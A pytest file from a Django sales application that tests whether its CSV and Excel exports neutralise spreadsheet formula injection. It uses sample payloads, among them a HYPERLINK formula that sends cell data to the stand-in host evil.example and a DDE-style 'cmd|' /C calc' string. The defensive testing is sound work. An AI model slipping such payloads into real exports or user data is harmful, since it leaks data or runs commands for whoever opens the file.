"""Exports never hand a spreadsheet a formula (issue 21, F2; docs/security.md, Exports).

A text typed by anyone may look like a formula. CSV downloads neutralise such cells with a
leading `'`, Excel downloads write them as text cells; numbers stay numbers.
"""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from salesorg.core.exports import csv_cell, csv_text, xlsx_append, xlsx_bytes, xlsx_workbook
from salesorg.sales.models import Visit
from tests.factories import ContactFactory, CustomerFactory

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
SPREADSHEET_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response).decode("utf-8-sig") if response.streaming else None
    text = text if text is not None else response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(body: bytes) -> list:
    book = load_workbook(io.BytesIO(body))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def is_number_text(text: str) -> bool:
    try:
        Decimal(text.replace(",", "").replace("¥", "").removesuffix("%"))
    except ArithmeticError:
        return False
    return True


def evaluated_csv_cells(rows: list[list[str]]) -> list[str]:
    """The cells a spreadsheet would evaluate: formula-like and not a plain number."""
    return [
        cell
        for row in rows
        for cell in row
        if cell.startswith(SPREADSHEET_STARTS) and not is_number_text(cell)
    ]


# --- the helper ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-¥1,234.50x"]
)
def test_formula_looking_texts_get_a_leading_quote(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value, expected",
    [
        (Decimal("-3.00"), "-3.00"),
        (-12, "-12"),
        ("-1,234.00", "-1,234.00"),
        ("-¥1,234.50", "-¥1,234.50"),
        ("+12.5%", "+12.5%"),
        ("-0.3333333333", "-0.3333333333"),
        (date(2026, 1, 2), "2026-01-02"),
        (None, ""),
        ("客户 = 1", "客户 = 1"),
        ("'=already quoted", "'=already quoted"),
    ],
)
def test_numbers_and_plain_texts_stay_as_they_are(value, expected):
    assert csv_cell(value) == expected


def test_a_machine_format_keeps_its_cells_verbatim():
    assert csv_text(["code"], [["-R1"]], neutralise=False) == "code\n-R1\n"
    assert csv_text(["code"], [["-R1"]]) == "code\n'-R1\n"


def test_excel_cells_from_text_are_text_and_numbers_stay_numbers():
    for write_only in (True, False):
        book = xlsx_workbook(write_only=write_only)
        sheet = book.create_sheet() if write_only else book.active
        xlsx_append(sheet, [ATTACK, "#N/A", "-1", Decimal("-2.50"), 7, date(2026, 1, 2), "a\x01b"])
        cells = xlsx_cells(xlsx_bytes(book))
        assert [(c.value, c.data_type) for c in cells[:4]] == [
            (ATTACK, "s"),
            ("#N/A", "s"),
            ("-1", "s"),
            (-2.5, "n"),
        ]
        assert cells[4].value == 7 and cells[5].is_date and cells[6].value == "ab"
        assert cells[0].quotePrefix  # Excel keeps it text even when the cell is edited


# --- the finding as reported --------------------------------------------------------------------


@pytest.mark.django_db
def test_a_formula_typed_by_a_rep_reaches_the_managers_visits_csv_as_text(org_tree):
    """F2: a rep sets a visit's purpose to a formula by API; the manager downloads visits."""
    rep = org_tree.people["rep_east1a"]
    customer = CustomerFactory(owner=rep)
    payload = {
        "rep_id": rep.pk,
        "customer_id": customer.pk,
        "visit_date": "2026-01-05",
        "purpose": ATTACK,
        "contact_ids": [ContactFactory(customer=customer).pk],
    }
    response = org_tree.client("rep_east1a").post(
        "/api/v1/visits", payload, content_type="application/json"
    )
    assert response.status_code == 201, response.content
    assert Visit.objects.get().purpose == ATTACK  # stored as typed

    rows = csv_rows(org_tree.client("manager_east1").get("/sales/visits/?format=csv"))

    assert "'" + ATTACK in rows[1] and not evaluated_csv_cells(rows)


@pytest.mark.django_db
def test_a_customer_named_like_a_formula_is_a_text_cell_in_excel(org_tree):
    CustomerFactory(owner=org_tree.people["rep_east1a"], name=ATTACK)

    response = org_tree.client("manager_east1").get("/customers/?format=xlsx")

    names = [c for c in xlsx_cells(response.content) if c.value == ATTACK]
    assert names and all(c.data_type == "s" for c in names)


@pytest.mark.django_db
def test_the_audit_export_command_neutralises_a_name_like_a_formula(org_tree, tmp_path):
    """The compliance CSV of `salesorg audit-export` is opened in spreadsheets too."""
    from django.core.management import call_command

    rep = org_tree.people["rep_east1a"]
    rep.name = ATTACK
    rep.save()
    customer = CustomerFactory(owner=rep, name="客户")
    customer.name = "新客户名"
    customer._history_user = rep.user
    customer.save()
    out = tmp_path / "audit.csv"

    call_command("audit_export", str(out), since="2000-01-01", stdout=io.StringIO())

    rows = list(csv.reader(out.open(encoding="utf-8")))
    assert any(row[3].startswith("'" + ATTACK) for row in rows) and not evaluated_csv_cells(rows)


@pytest.mark.django_db
def test_excel_shows_satisfaction_and_nps_as_plain_numbers_not_yuan(org_tree):
    from salesorg.customers.choices import SurveySource
    from salesorg.customers.models import SatisfactionSurvey

    customer = CustomerFactory(owner=org_tree.people["rep_east1a"])
    for overall, recommend in ((5, 10), (4, 8)):
        SatisfactionSurvey.objects.create(
            customer=customer,
            surveyed_on=date(2026, 3, 2),
            overall=overall,
            recommend=recommend,
            source=SurveySource.CUSTOMER,
        )
    query = {"start": "2026-03-01", "end": "2026-03-31", "format": "xlsx"}

    response = org_tree.client("director").get("/customers/satisfaction/", query)

    sheet = load_workbook(io.BytesIO(response.content)).active
    average, nps = sheet.cell(row=2, column=3), sheet.cell(row=2, column=7)
    assert (average.value, nps.value) == (4.5, 50)
    assert "¥" not in average.number_format and "¥" not in nps.number_format


# --- every export, found from the URLconf -------------------------------------------------------

# A view is an export when it reads ?format= or serves a list page's CSV (core.listing).
EXPORT_MARKERS = ('"format"', "list_response(")
# Routes with parameters: the paths to fetch, from the records. A new export route with a
# parameter fails test_every_export_route_can_be_fetched until it is added here.
ROUTE_PATHS = {
    "performance/dashboards/<slug:slug>/": lambda records: [
        f"/performance/dashboards/{board.slug}/" for board in _dashboards()
    ],
    "performance/scorecards/<int:pk>/": lambda records: [
        f"/performance/scorecards/{period.pk}/" for period in _scorecard_periods()
    ],
    "audit/<slug:app_label>/<slug:model_name>/<int:object_id>/history/": lambda records: [
        f"/audit/sales/visit/{records.visits['rep_east1a'].pk}/history/",
        f"/audit/customers/customer/{records.customers['rep_east1a'].pk}/history/",
    ],
}


def _both_formats(query: str) -> list[str]:
    return [f"{query}&format=csv", f"{query}&format=xlsx"]


# Queries beyond the page's own download links: the funnel's items of each status, and
# periods that hold the records (visits of 2026-01-15, surveys of 2026-02).
EXTRA_QUERIES = {
    "customers/pipeline/funnel/": [
        url for status in ("open", "won", "lost") for url in _both_formats(f"status={status}")
    ],
    "customers/satisfaction/": _both_formats("start=2026-01-01&end=2026-12-31"),
    "sales/visits/compliance/": _both_formats("from=2026-01-01&to=2026-12-31"),
    "sales/visits/compliance/skipped/": _both_formats("from=2026-01-01&to=2026-12-31"),
}
# Whose login fetches the exports: the first of these the page answers 200 for.
VIEWERS = ("director", "admin", "finance", "trainer", "manager_east1")


def _dashboards():
    from salesorg.performance.charts.tables import DASHBOARDS

    return DASHBOARDS


def _scorecard_periods():
    from salesorg.performance.models import ScorecardPeriod

    return ScorecardPeriod.objects.all()


def _routes(resolver=None, prefix=""):
    from django.urls import URLResolver, get_resolver

    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from _routes(entry, prefix + str(entry.pattern))
        else:
            yield prefix + str(entry.pattern), entry


def export_routes() -> list[str]:
    """Every route whose view offers a CSV or Excel download."""
    import inspect

    found = []
    for route, pattern in _routes():
        if route.startswith(("admin/", "api/")):
            continue
        view = getattr(pattern.callback, "view_class", None) or inspect.unwrap(pattern.callback)
        source = inspect.getsource(view)
        if any(marker in source for marker in EXPORT_MARKERS):
            found.append(route)
    return found


def test_the_exports_are_found_from_the_urlconf():
    routes = set(export_routes())
    assert {
        "customers/",
        "sales/visits/",
        "targets/research/",
        "org/people/",
        "performance/kpi/",
        "performance/dashboards/<slug:slug>/",
        "performance/scorecards/<int:pk>/",
        "audit/<slug:app_label>/<slug:model_name>/<int:object_id>/history/",
        "customers/pipeline/funnel/",
    } <= routes
    assert all("<" not in route or route in ROUTE_PATHS for route in routes), (
        "an export route with a parameter: add its paths to ROUTE_PATHS"
    )


def test_no_export_writes_a_spreadsheet_outside_core_exports():
    """Every CSV and workbook is written by core.exports, so no export can forget the rule.

    The interchange files are the exception: a machine format read back by the importer
    (docs/security.md, Exports)."""
    from pathlib import Path

    import salesorg

    root = Path(salesorg.__file__).parent
    allowed = {root / "core" / "exports.py", root / "interchange" / "csvio.py"}
    writers = ("csv.writer", "csv.DictWriter", "openpyxl", "Workbook(", "text/csv", "spreadsheetml")
    offenders = [
        f"{path.relative_to(root)}: {needle}"
        for path in root.rglob("*.py")
        if path not in allowed and "migrations" not in path.parts
        for needle in writers
        if needle in path.read_text(encoding="utf-8")
    ]
    assert offenders == []


FORMULA_STARTS_FOR_TEST = ("=", "+", "-", "@", "\t", "\r")


def _poison_every_text():
    """Every free text of every SalesOrg record starts like a formula (a `HYPERLINK`)."""
    from django.apps import apps
    from django.db import models

    for model in apps.get_models():
        if not model.__module__.startswith("salesorg.") or model._meta.proxy:
            continue
        fields = [
            field
            for field in model._meta.concrete_fields
            if isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and not field.primary_key
        ]
        if not fields:
            continue
        for pk in model._base_manager.values_list("pk", flat=True):
            values = {}
            for number, field in enumerate(fields):
                start = FORMULA_STARTS_FOR_TEST[(number + pk) % len(FORMULA_STARTS_FOR_TEST)]
                value = f'{start}HYPERLINK("evil.example?{pk}")'
                values[field.attname] = value[: field.max_length] if field.max_length else value
            model._base_manager.filter(pk=pk).update(**values)


def _download_links(html: str, path: str) -> set[str]:
    """The page's own CSV and Excel links (every dashboard table has one)."""
    import html as html_module
    import re
    from urllib.parse import urljoin

    links = set()
    for href in re.findall(r'href="([^"]*format=(?:csv|xlsx)[^"]*)"', html):
        links.add(urljoin(path, html_module.unescape(href)))
    return links


def _check_download(response, url: str) -> tuple[list[str], bool]:
    """(cells a spreadsheet would evaluate, whether a poisoned text was in the file)."""
    kind = response["Content-Type"]
    if kind.startswith("text/csv"):
        rows = csv_rows(response)
        cells = [cell for row in rows for cell in row]
        return evaluated_csv_cells(rows), any("HYPERLINK" in cell for cell in cells)
    assert kind.startswith("application/vnd.openxmlformats"), (url, kind)
    cells = xlsx_cells(response.content)
    formulas = [f"{cell.coordinate}: {cell.value}" for cell in cells if cell.data_type == "f"]
    return formulas, any("HYPERLINK" in str(cell.value) for cell in cells)


@pytest.mark.django_db
def test_every_export_shows_formula_looking_texts_as_text(org_tree, org_records):
    """Each export found in the URLconf, fetched as someone who may see it, in every format it
    offers: no cell is evaluated, and the poisoned texts are there (as text)."""
    _records_to_show(org_records)
    _poison_every_text()
    clients = {key: org_tree.client(key) for key in VIEWERS}
    problems, unseen = [], []
    for route in export_routes():
        paths = ROUTE_PATHS[route](org_records) if "<" in route else ["/" + route]
        seen = False
        for path in paths:
            viewer = next(
                (client for client in clients.values() if client.get(path).status_code == 200),
                None,
            )
            assert viewer is not None, f"nobody may see {path}"
            page = viewer.get(path)
            urls = {f"{path}?format=csv", f"{path}?format=xlsx"}
            urls |= _download_links(page.content.decode(), path)
            urls |= {f"{path}?{query}" for query in EXTRA_QUERIES.get(route, [])}
            downloads = 0
            for url in sorted(urls):
                response = viewer.get(url)
                if "attachment" not in response.get("Content-Disposition", ""):
                    continue
                assert response.status_code == 200, url
                downloads += 1
                evaluated, poisoned = _check_download(response, url)
                problems += [f"{url}: {cell!r}" for cell in evaluated]
                seen = seen or poisoned
            assert downloads, f"{path} offers no download"
        if not seen:
            unseen.append(route)
    assert problems == []
    assert not unseen, f"exports without any record text (add records to the test): {unseen}"


def _records_to_show(org_records):
    """A change in a visit's history, a skipped required step and a customer's own survey
    answer, so that the history, compliance and satisfaction exports have rows (their texts
    are poisoned with the rest)."""
    from salesorg.customers.choices import SurveySource
    from salesorg.customers.models import SatisfactionSurvey
    from salesorg.sales.models import ChecklistStep, VisitStep

    visit = org_records.visits["rep_east1a"]
    visit.purpose = ATTACK
    visit.save()
    step = ChecklistStep.objects.create(purpose=org_records.purpose, position=2, text="报价")
    VisitStep.objects.create(visit=visit, step=step, done=False, skip_reason="客户不在")
    SatisfactionSurvey.objects.create(
        customer=visit.customer,
        surveyed_on=visit.visit_date,
        overall=4,
        source=SurveySource.CUSTOMER,
    )
